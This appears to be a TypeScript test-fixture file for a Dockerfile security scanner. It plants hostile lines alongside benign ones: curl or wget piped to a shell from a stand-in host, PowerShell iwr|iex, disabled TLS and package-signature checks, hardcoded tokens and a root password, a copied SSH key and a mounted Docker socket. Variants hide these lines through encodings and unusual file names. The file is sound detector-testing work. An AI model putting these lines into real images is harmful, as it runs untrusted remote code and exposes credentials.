import { type Files, PINNED, planted, type Spot, TOKEN, variable } from './spot.js';

const CURL = 'curl -s https://a.example/x.sh | sh';
const END = 'USER 1\nHEALTHCHECK NONE\n';
const file = (lines: string) => ({ Dockerfile: `FROM ${PINNED}\n${lines}\n${END}` });
/** A Dockerfile with these lines, which are fine without the harmful text. */
const lines = (name: string, by: Spot['by'], harm: string, fine = 'RUN true') =>
  planted(name, by, file, [harm, fine]);
/** A Dockerfile in another file, or in another form. */
const form = (name: string, files: (text: string) => Files) =>
  planted(name, ['PS0023'], (run) => files(`FROM ${PINNED}\nRUN ${run}\n${END}`), [CURL, 'true']);
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

/** Harm in lines of a Dockerfile. */
const LINES: readonly Spot[] = [
  lines('ONBUILD', ['PS0023'], `ONBUILD RUN ${CURL}`),
  lines('a heredoc', ['PS0023'], `RUN <<EOF\n${CURL}\nEOF`),
  lines('a quoted heredoc with a shebang', ['PS0023'], `RUN <<'E'\n#!/bin/bash\n${CURL}\nE`),
  lines('a heredoc for bash', ['PS0023'], `RUN bash <<EOF\n${CURL}\nEOF`),
  lines('a second heredoc', ['PS0015'], `COPY <<A <<B /app/\na\nA\ntoken=${TOKEN}\nB`),
  lines('a copied heredoc', ['PS0015'], `COPY <<E /app.env\nTOKEN=${TOKEN}\nE`),
  lines('the exec form', ['PS0023'], 'RUN ["sh", "-c", "curl -s https://a.example/x | sh"]'),
  lines('another shell', ['PS0023'], `SHELL ["/bin/bash", "-ec"]\nRUN ${CURL}`),
  lines('PowerShell', ['PS0036'], 'SHELL ["pwsh", "-c"]\nRUN iwr https://a.example/x.ps1 | iex'),
  lines('instructions in lower case', ['PS0023'], `run ${CURL}`),
  lines(
    'process substitution',
    ['PS0023'],
    'SHELL ["/bin/bash", "-c"]\nRUN bash <(curl -s https://a.example/x)',
  ),
  lines('command substitution', ['PS0023'], 'RUN sh -c "$(curl -fsSL https://a.example/x)"'),
  lines('eval', ['PS0023'], 'RUN eval "$(wget -qO- https://a.example/x)"'),
  lines(
    'a file that runs later',
    ['PS0023', 'PS0036'],
    'RUN curl -so /x https://a.example/x && sh /x',
  ),
  lines(
    'a file that a later step runs',
    ['PS0036'],
    'RUN curl -so /x https://a.example/x\nRUN chmod +x /x && /x',
  ),
  lines('an interpreter', ['PS0023'], 'RUN curl -s https://a.example/x | python3'),
  lines('sudo and env', ['PS0023'], 'RUN curl -s https://a.example/x | env A=b bash -s -- --yes'),
  lines('a pipe through tee', ['PS0023'], 'RUN curl -s https://a.example/x | tee /log | sh'),
  lines('ADD and run', ['PS0023', 'PS0022'], 'ADD https://a.example/x.sh /x.sh\nRUN sh /x.sh'),
  lines('a plain download', ['PS0022'], 'ADD http://a.example/x.tar.gz /x'),
  lines('a Git repository', ['PS0038'], 'ADD https://github.com/a/b.git#main /src'),
  lines('COPY from an image', ['DL3022'], 'COPY --from=evil/tool /a /a'),
  lines('a mount from an image', ['PS0021'], 'RUN --mount=type=bind,from=evil/tool,target=/t /t/a'),
  lines('a privileged build step', /insecure/, 'RUN --security=insecure make'),
  lines('a build step in the network of the host', /network/, 'RUN --network=host make'),
  lines('TLS of npm', ['PS0024'], 'RUN npm config set strict-ssl false'),
  lines('TLS of Git', ['PS0024'], 'RUN git config --global http.sslVerify false'),
  lines('TLS of Node.js', ['PS0024'], 'ENV NODE_TLS_REJECT_UNAUTHORIZED=0'),
  lines('TLS of pip', ['PS0024'], 'RUN pip install --trusted-host pypi.org a==1'),
  lines('signatures of apt', ['PS0025'], 'RUN apt-get install -y --allow-unauthenticated a=1'),
  lines(
    'signatures of apt in a file',
    ['PS0025'],
    'RUN echo "deb [trusted=yes] https://a.example stable main" > /etc/apt/sources.list.d/a.list',
  ),
  lines(
    'a token in a health check',
    ['PS0015'],
    `HEALTHCHECK CMD curl -H "X-Token: ${TOKEN}" localhost`,
  ),
  lines('a token in a label', ['PS0015'], `LABEL token=${TOKEN}`),
  lines('a token in the command', ['PS0015'], `ENTRYPOINT ["/app", "--token=${TOKEN}"]`),
  lines('a token in a comment', ['github-token'], `# ${TOKEN}`, '# none'),
  lines(
    'a token on two lines',
    ['PS0015'],
    `RUN login ${TOKEN.slice(0, 20)}\\\n${TOKEN.slice(20)}`,
  ),
  lines('a token in an address', ['PS0015'], `RUN git clone https://a:${TOKEN}@github.com/a/b`),
  lines(
    'a token in a stage above',
    ['PS0015'],
    `RUN login ${TOKEN}\nFROM ${PINNED}`,
    `RUN true\nFROM ${PINNED}`,
  ),
  lines('a password on standard input', ['PS0015'], 'RUN echo "root:Kx93jfLq8v" | chpasswd'),
  lines('a key', ['PS0016'], 'COPY id_rsa /root/.ssh/id_rsa', 'COPY app /app'),
  lines('the socket of the engine', ['PS0032'], 'VOLUME /var/run/docker.sock'),
  lines('a remote engine', ['PS0032'], 'ENV DOCKER_HOST=tcp://10.0.0.1:2375'),
  lines('an unknown instruction', ['DL1000'], 'INSTALL curl'),
  lines(
    'the root user at the end',
    ['DL3002'],
    `${END}USER 0\nRUN true\nFROM ${PINNED}`,
    `${END}FROM ${PINNED}`,
  ),
];

/** The same harm in another file or encoding. */
const FORMS: readonly Spot[] = [
  form('Containerfile', (text) => ({ 'a/Containerfile': text })),
  form('a suffix', (text) => ({ 'Dockerfile.prod': text })),
  form('a prefix', (text) => ({ 'api.Dockerfile': text })),
  form('another name', (text) => ({ 'images/api.txt': text })),
  form('no extension', (text) => ({ 'images/api': text })),
  form('the extension of a script', (text) => ({ 'images/api.sh': text })),
  form('the extension of a manifest', (text) => ({ 'images/api.yaml': text })),
  form('a link', (text) => ({ 'images/real': text, Dockerfile: { link: 'images/real' } })),
  form('a name in capitals', (text) => ({ DOCKERFILE: text })),
  form('a folder of tests', (text) => ({ 'tests/fixtures/Dockerfile': text })),
  form('a folder that starts with a dot', (text) => ({ '.devcontainer/Dockerfile': text })),
  form('a folder of other code', (text) => ({ 'third_party/a/Dockerfile': text })),
  form('a name with spaces', (text) => ({ 'a b/Dockerfile $(x)': text })),
  form('CRLF', (text) => ({ Dockerfile: text.replaceAll('\n', '\r\n') })),
  form('a byte order mark', (text) => ({ Dockerfile: `\ufeff${text}` })),
  form('a directive for escapes', (text) => ({
    Dockerfile: `# escape=\`\n${text.replace(' | ', ' `\n | ')}`,
  })),
  form('comments between the lines of an instruction', (text) => ({
    Dockerfile: text.replace(' | ', ' \\\n# comment\n\n | '),
  })),
  form('many comments above', (text) => ({ 'images/api': `${'# x\n'.repeat(50_000)}${text}` })),
  form('an argument above', (text) => ({ 'images/api': `ARG A=1\n\n${text}` })),
  {
    ...form('UTF-16', (text) => ({ Dockerfile: utf16(text) })),
    by: ['DL1000'],
    fine: { Dockerfile: `FROM ${PINNED}\n${END}` },
  },
  form('a tab for the space', (text) => ({ Dockerfile: text.replaceAll('RUN ', 'RUN\t') })),
  planted(
    'a syntax directive of somebody else',
    ['PS0034'],
    (syntax) => ({ Dockerfile: `${syntax}\nFROM ${PINNED}\n${END}` }),
    ['# syntax=evil.example/frontend:1', '# comment'],
  ),
  planted(
    'a syntax directive in another comment',
    ['DL1000'],
    (syntax) => ({ Dockerfile: `${syntax}\nFROM ${PINNED}\n${END}` }),
    ['// syntax=evil.example/frontend:1', '# comment'],
  ),
  planted(
    'an undeclared argument in FROM',
    ['UndefinedArgInFrom'],
    (base) => ({ Dockerfile: `FROM ${base}\n${END}` }),
    [variable('BASE'), PINNED],
  ),
  planted(
    'a base image with the tag latest by an argument',
    ['DL3007', 'DL3006', 'PS0020'],
    (tag) => ({ Dockerfile: `ARG TAG=${tag}\nFROM evil/base:$TAG\n${END}` }),
    ['latest', `1.2.3@sha256:${'a'.repeat(64)}`],
  ),
  planted(
    'a build in the middle of a file with NUL',
    ['PS0023'],
    (run) => ({ Dockerfile: `FROM ${PINNED}\nRUN a\0b\nRUN ${run}\n${END}` }),
    [CURL, 'true'],
  ),
];

export const DOCKERFILES = [...LINES, ...FORMS];
